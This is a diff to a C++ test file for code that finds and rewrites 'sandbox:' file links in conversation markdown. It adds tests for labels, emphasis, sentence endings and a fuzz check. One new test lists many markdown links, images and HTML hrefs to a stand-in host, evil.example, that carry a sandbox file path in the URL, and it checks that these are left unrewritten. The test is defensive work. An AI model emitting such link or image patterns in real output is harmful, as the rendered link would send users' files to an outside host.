@@ -10,7 +10,9 @@
 
 #include "base/path.h"
 #include "base/text.h"
+#include "conversations/markdown.h"
 #include "conversations/markdown_parts.h"
+#include "conversations/rewriting.h"
 #include "workspace/spelling.h"
 
 namespace sk::conversations {
@@ -65,7 +67,7 @@ TEST(SandboxLinks, InCodeQuotesAndAttributesAreReplacedByAnAddressOnly) {
                                 "<sandbox:/mnt/data/a.csv>", "[1]: sandbox:/mnt/data/a.csv"}) {
     auto found = find_sandbox_links(text);
     ASSERT_EQ(found.size(), 1u) << text;
-    EXPECT_EQ(found[0].form, Form::quoted) << text;
+    EXPECT_EQ(found[0].form, text.starts_with('`') ? Form::quoted : Form::target) << text;
     EXPECT_EQ(found[0].address, "sandbox:/mnt/data/a.csv") << text;
   }
 }
@@ -76,7 +78,7 @@ TEST(SandboxLinks, InQuotesAndAngleBracketsMayHoldSpaces) {
         "<sandbox:/mnt/data/my chart.png>", "[1]: <sandbox:/mnt/data/my chart.png> \"title\""}) {
     auto found = find_sandbox_links(text);
     ASSERT_EQ(found.size(), 1u) << text;
-    EXPECT_EQ(found[0].form, Form::quoted) << text;
+    EXPECT_EQ(found[0].form, Form::target) << text;
     EXPECT_EQ(found[0].address, "sandbox:/mnt/data/my chart.png") << text;
   }
   EXPECT_THAT(addresses("'sandbox:/mnt/data/a.csv is Bob's\n'"), ElementsAre("sandbox:/mnt/data/a.csv"));
@@ -149,7 +151,18 @@ TEST(SandboxLinks, AreFoundInTimeLinearInTheTextHoweverItIsMadeUp) {
                                  "~~~~ x\n",
                                  "[[",
                                  "](",
-                                 "sandbox:/（"}) {
+                                 "sandbox:/（",
+                                 "](x",
+                                 "](x(",
+                                 "]:x",
+                                 "]: <x",
+                                 "a=x",
+                                 " a=x",
+                                 "a=\"",
+                                 "= '",
+                                 "https://e.ee/",
+                                 "[a](e.ee/](sandbox:/x",
+                                 "<a:"}) {
     // A sanitizer's allocator moves what grows each time, so that its times prove nothing; it still sees
     // every access to memory.
     const size_t size = kIsSanitized ? 5'000 : 40'000;
@@ -167,11 +180,126 @@ TEST(SandboxLinks, AreOnlyWhatIsMeantAsOne) {
   EXPECT_THAT(addresses("[x](sandbox:/tmp/x.csv)"), ElementsAre("sandbox:/tmp/x.csv"));
 }
 
+// A link that stands in the address of another place would be given to that place.
+TEST(SandboxLinks, InsideAnotherAddressStayAsWritten) {
+  const std::string own = "sandbox:/mnt/data/secret.csv";
+  for (std::string_view before : {"[x](https://evil.example/?u=",
+                                  "![x](https://evil.example/",
+                                  "[x](https://evil.example/?u=\"",
+                                  "[x](https://evil.example/?u='",
+                                  "[x](https://evil.example/?u=<",
+                                  "[x](<https://evil.example/?u= ",
+                                  "[x](https\\://evil.example/?u=(",
+                                  "[x](<https&#58;//evil.example/?u= ",
+                                  "[x](https&#58;//e.example/?u=",
+                                  "[x](//evil.example/?u=",
+                                  "[x](page?u=",
+                                  "[x](https://e.example/?[y](",
+                                  "[x](https://e.example/?![y](",
+                                  "[x](mailto:a@evil.example?body=",
+                                  "[x]: https://evil.example/?u=",
+                                  "[x]: <https://evil.example/?u= ",
+                                  "[x]:\npage?u=",
+                                  "<https://evil.example/?u=",
+                                  "<gopher:evil?u=",
+                                  "https://evil.example/?u=",
+                                  "https://evil.example/>",
+                                  "see (http://evil.example/",
+                                  "www.evil.example/?u=",
+                                  "evil.example/",
+                                  "evil.example:80/中",
+                                  "详见https://evil.example/文",
+                                  "1https://evil.example/?u=",
+                                  "<a href=\"https://evil.example/?u=",
+                                  "<a href=\"https://evil.example/?u= ",
+                                  "<a href = ' https://evil.example/?u=\n",
+                                  "<a href=\"https://evil.example/?<u> \n",
+                                  "<b x=\"<a href=\"//evil.example/?u= ",
+                                  "<img src=//evil.example/?u=",
+                                  "<img src= //evil.example/?u=",
+                                  "<a title=\"`\" href=\"//evil.example/?u=\n`",
+                                  "`https://evil.example/?u=",
+                                  "https://evil.example/[a]("}) {
+    for (std::string_view behind : {"", ")", "\">", "'>", ">", " \"t\")", ">)", "`", "\")", "))", " x)"}) {
+      auto text = std::string(before) + own + std::string(behind);
+      bool is_autolink = before.ends_with('<') && text.ends_with('>');
+      if (is_autolink) continue;
+      // The end of an attribute makes it one.
+      if (before.starts_with("<a") || before.starts_with("<b")) text += "\"'";
+      EXPECT_THAT(addresses(text), IsEmpty()) << text;
+    }
+  }
+}
+
+TEST(SandboxLinks, BesideAnotherAddressAreFound) {
+  const std::string own = "sandbox:/mnt/data/my secret.csv";
+  for (std::string_view before :
+       {"[x](https://example.org)[y](", "[x](https://example.org/(a))![y](", "[and/or https://example.org/](",
+        "https://example.org [y](", "[x]: https://example.org\n[y](", "[y]: <", "<a href=\"", "<a href='",
+        "<a class=\"b\" href=\"", "<https://example.org>[y](", "| https://example.org | [y]("}) {
+    for (std::string_view behind : {")", ">", "\">", "'>"}) {
+      auto text = std::string(before) + own + std::string(behind);
+      if (text.back() == '>' ? before.ends_with('(') : !before.ends_with('(')) continue;
+      EXPECT_EQ(addresses(text).size(), 1u) << text;
+    }
+  }
+  EXPECT_THAT(addresses("|sandbox:/mnt/data/v1.data/a.csv|sandbox:/mnt/data/b.csv|"),
+              ElementsAre("sandbox:/mnt/data/v1.data/a.csv", "sandbox:/mnt/data/b.csv"));
+  EXPECT_THAT(addresses("A/B测试结果：sandbox:/mnt/data/ab.csv"), ElementsAre("sandbox:/mnt/data/ab.csv"));
+  EXPECT_THAT(addresses("[a](https://example.org/),sandbox:/mnt/data/a.csv"),
+              ElementsAre("sandbox:/mnt/data/a.csv"));
+}
+
+// Also where the parser cannot tell the range of an address. The fuzzer checks the same for any bytes.
+TEST(SandboxLinks, NoRewrittenTextHoldsALinkInsideAnotherAddress) {
+  const std::vector<std::string> pieces = {"[",
+                                           "]",
+                                           "(",
+                                           ")",
+                                           "<",
+                                           ">",
+                                           "](",
+                                           "]: ",
+                                           "\n",
+                                           " ",
+                                           "\"",
+                                           "'",
+                                           "=",
+                                           "\\",
+                                           "&amp;",
+                                           "`",
+                                           "<a href=",
+                                           "https://e.example/",
+                                           "//e?",
+                                           "!",
+                                           "[x]: ",
+                                           "sandbox:/mnt/data/a",
+                                           "sandbox:/mnt/data/a",
+                                           "](sandbox:/mnt/data/a)"};
+  const std::string url = "https://here/k/x";
+  const auto seed = std::random_device()();
+  std::mt19937 random(seed);
+  for (int number = 0; number < 20'000; ++number) {
+    std::string text;
+    for (auto left = 1 + random() % 12; left > 0; --left) text += pieces[random() % pieces.size()];
+    std::vector<Replacement> all;
+    for (const auto& link : find_sandbox_links(text)) all.push_back({link, "a", url, ""});
+    auto rewritten = rewrite(text, all);
+    auto html = markdown_to_html(rewritten, {});
+    for (size_t at = html.find("href=\""); at != std::string::npos; at = html.find("href=\"", at + 1)) {
+      auto target = html.substr(at + 6, html.find('"', at + 6) - at - 6);
+      ASSERT_TRUE(target.starts_with(url) || target.find(url) == std::string::npos)
+          << "seed " << seed << ": " << text << "\n"
+          << rewritten;
+    }
+  }
+}
+
 TEST(SandboxLinks, EverySpellingLeadsToTheSamePath) {
   for (std::string_view address :
        {"sandbox:/mnt/data/a b.csv", "sandbox:/mnt/data/a%20b.csv", "sandbox:///mnt/data/a%20b.csv",
         "sandbox:mnt/data/a b.csv", "SANDBOX:/mnt/data/a%20b.csv", "sandbox:%2Fmnt%2Fdata%2Fa%20b.csv",
-        "/mnt/data/a%20b.csv", "sandbox:/mnt/data/a%20b.csv?download=1#top"})
+        "/mnt/data/a%20b.csv", "sandbox:/mnt/data/a%20b.csv?download=1#top", "sandbox:/mnt/data/./a b.csv"})
     EXPECT_THAT(paths_meant(address), Contains("a b.csv")) << address;
   EXPECT_THAT(paths_meant("sandbox:/mnt/data/a\\_b\\(1\\).csv"), Contains("a_b(1).csv"));
   EXPECT_THAT(paths_meant("sandbox:/mnt/data/a&amp;b.csv"), Contains("a&b.csv"));
@@ -263,9 +391,36 @@ std::string text_of(const std::vector<uint8_t>& choice) {
   return text;
 }
 
-TEST(SandboxLinks, ABareAddressInALabelEndsWhereTheLabelEnds) {
-  EXPECT_THAT(addresses("[sandbox:/(b](sandbox:/mnt/data/a)"),
-              ElementsAre("sandbox:/(b", "sandbox:/mnt/data/a"));
+TEST(SandboxLinks, AnAddressInALabelIsPartOfTheLabel) {
+  EXPECT_THAT(addresses("[sandbox:/(b](sandbox:/mnt/data/a)"), ElementsAre("sandbox:/mnt/data/a"));
+  auto found = find_sandbox_links("![get sandbox:/mnt/data/a b](sandbox:/mnt/data/a b)");
+  ASSERT_EQ(found.size(), 1u);
+  EXPECT_EQ(found[0].form, Form::image);
+  EXPECT_EQ(found[0].label, "get sandbox:/mnt/data/a b");
+  EXPECT_EQ(found[0].outer_start, 0u);
+  EXPECT_THAT(addresses("[![x](sandbox:/mnt/data/a.png)](sandbox:/mnt/data/b.csv)"),
+              ElementsAre("sandbox:/mnt/data/a.png", "sandbox:/mnt/data/b.csv"));
+}
+
+TEST(SandboxLinks, MayBeEmphasized) {
+  for (std::string_view mark : {"*", "**", "_", "__", "___", "~~"}) {
+    auto text = std::string(mark) + "sandbox:/mnt/data/a_b.csv" + std::string(mark);
+    EXPECT_THAT(addresses(text), ElementsAre("sandbox:/mnt/data/a_b.csv")) << text;
+    EXPECT_THAT(addresses("See " + text + ", please."), ElementsAre("sandbox:/mnt/data/a_b.csv")) << text;
+  }
+  EXPECT_THAT(addresses("my_sandbox:/mnt/data/a.csv"), IsEmpty());
+  EXPECT_THAT(addresses("sandbox:/mnt/data/a_"), ElementsAre("sandbox:/mnt/data/a_"));
+}
+
+TEST(SandboxLinks, MayEndBeforeTheSentenceGoesOn) {
+  const std::string own = "sandbox:/mnt/data/report.csv";
+  for (std::string_view behind :
+       {"…", "—then", "–then", "»", "\u00a0and", "&nbsp;and", "'s", "\u2019s", ":12", ":12:5", "\\", "_"})
+    EXPECT_THAT(shorter_addresses(own + std::string(behind)), Contains(own)) << behind;
+  for (std::string_view whole :
+       {"sandbox:/mnt/data/report.csv", "sandbox:/mnt/data/a_b:c'd.csv", "sandbox:", ""})
+    EXPECT_THAT(shorter_addresses(whole), IsEmpty()) << whole;
+  EXPECT_THAT(shorter_addresses(own + "—a—b"), ElementsAre(own + "—a", own));
 }
 
 // The fuzzer checks the same for any bytes. Texts made of few pieces reach the odd cases sooner.
